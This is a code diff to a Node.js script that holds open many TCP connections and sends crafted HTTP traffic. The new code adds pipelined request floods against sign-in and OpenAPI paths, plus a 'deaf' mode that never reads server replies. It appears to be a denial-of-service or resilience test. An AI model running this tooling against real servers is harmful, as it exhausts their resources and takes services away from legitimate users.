@@ -4,7 +4,11 @@ import { connect, type Socket } from 'node:net';
 interface Attack {
   first: string;
   drip: string;
+  /** It reads nothing of what the server sends. */
+  isDeaf?: true;
 }
+
+const tenOf = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(10);
 
 const attacks: Readonly<Record<string, Attack>> = {
   upgrade: { first: 'GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n', drip: '' },
@@ -16,6 +20,9 @@ const attacks: Readonly<Record<string, Attack>> = {
       'Content-Length: 1000\r\n\r\n{',
     drip: ' ',
   },
+  pages: { first: tenOf('/sign_in'), drip: tenOf('/sign_in') },
+  documents: { first: tenOf('/api/openapi.json'), drip: tenOf('/api/openapi.json') },
+  'documents-unread': { first: tenOf('/api/openapi.json'), drip: '', isDeaf: true },
 };
 const dripEveryMs = 1_000;
 /** A connection that was closed is opened again after this time, some later than others, so that they come evenly. */
@@ -46,7 +53,9 @@ function main(): void {
       clearInterval(timer);
       setTimeout(open, againMs, localAddress, againMs);
     });
-    socket.resume();
+    if (attack.isDeaf !== true) {
+      socket.resume();
+    }
   };
   for (const address of addresses) {
     for (let index = 0; index < Number(count); index += 1) {
